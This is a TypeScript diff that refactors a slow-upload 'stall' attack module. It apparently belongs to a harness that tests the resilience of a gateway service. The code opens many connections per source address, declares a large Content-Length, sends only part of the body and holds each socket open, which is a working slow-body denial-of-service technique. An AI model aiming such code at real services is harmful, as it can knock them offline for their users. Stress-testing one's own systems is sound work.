@@ -1,10 +1,10 @@
 import { answerReader } from '../support/answers.ts';
-import { beginRound, type Round } from '../support/round.ts';
+import { type AttackTimer, startAttackTimer } from '../support/attack-timer.ts';
 import { openTally, type Tally } from '../support/tally.ts';
-import { closed, dial, pour } from '../support/wire.ts';
-import type { Report, Target, Timed } from './attack.ts';
+import { connectFrom, untilClosed, writeDrained } from '../support/wire.ts';
+import type { AttackOptions, Report, Target } from './attack.ts';
 
-export interface StallOptions extends Timed {
+export interface StallOptions extends AttackOptions {
   readonly from: readonly string[];
   /** Connections per address. */
   readonly connections: number;
@@ -19,13 +19,13 @@ const SLICE = Buffer.alloc(64 * 1024, 'x');
 
 /** Sends most of a long body and stalls. Refused requests are started again. */
 export async function stall(target: Target, options: StallOptions): Promise<Report> {
-  const round = beginRound(options.seconds);
+  const timer = startAttackTimer(options.seconds);
   const tally = openTally();
   const lanes = options.from.flatMap((from) =>
     Array.from({ length: options.connections }, async () => {
-      while (!round.over()) {
-        await oneUpload(target, from, options, round, tally);
-        await round.pause(100);
+      while (!timer.isOver()) {
+        await oneUpload(target, from, options, timer, tally);
+        await timer.pause(100);
       }
     }),
   );
@@ -37,10 +37,10 @@ async function oneUpload(
   target: Target,
   from: string,
   { path, content_length, sent_bytes }: StallOptions,
-  round: Round,
+  timer: AttackTimer,
   tally: Tally,
 ): Promise<void> {
-  const socket = await dial(target, from);
+  const socket = await connectFrom(target, from);
   if (socket === undefined) return;
   tally.count('uploads');
   const reader = answerReader((answer) => {
@@ -51,8 +51,8 @@ async function oneUpload(
   const head = `Content-Type: application/json\r\nContent-Length: ${content_length}\r\n`;
   socket.write(`POST /api/v1${path} HTTP/1.1\r\nHost: gatehouse\r\n${head}\r\n`);
   for (let sent = 0; sent < sent_bytes; sent += SLICE.length) {
-    if (!(await pour(socket, SLICE, round.signal))) break;
+    if (!(await writeDrained(socket, SLICE, timer.signal))) break;
   }
-  await closed(socket, round.signal);
+  await untilClosed(socket, timer.signal);
   socket.destroy();
 }
